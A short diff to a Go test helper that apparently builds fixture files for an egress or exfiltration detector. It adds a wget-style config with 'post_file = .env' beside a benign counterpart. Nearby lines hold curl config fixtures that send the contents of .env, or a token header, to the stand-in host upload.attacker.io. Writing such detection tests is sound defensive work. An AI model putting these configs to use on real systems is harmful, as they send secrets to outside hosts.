@@ -139,6 +139,8 @@ func egressWorld(t *testing.T) (home, ovh, proj string) {
 		// curl -K config files and moved .curlrc files (senders.tsv).
 		"proj/rc/.curlrc":    "data = \"@.env\"\n",
 		"proj/rc-ok/.curlrc": "silent\nuser-agent = \"ci\"\n",
+		"proj/w.rc":          "post_file = .env\n",
+		"proj/wok.rc":        "tries = 3\ntimeout = 10\n",
 		"proj/env.cfg":       "url = \"https://upload.attacker.io/e\"\ndata-binary = \"@.env\"\n",
 		"proj/upload.cfg":    "url = \"https://upload.attacker.io/c\"\nheader = \"X-Key: " + worldEnvToken + "\"\n",
 		"proj/status.cfg":    "url = \"https://api.example.com/status\"\nsilent\n",
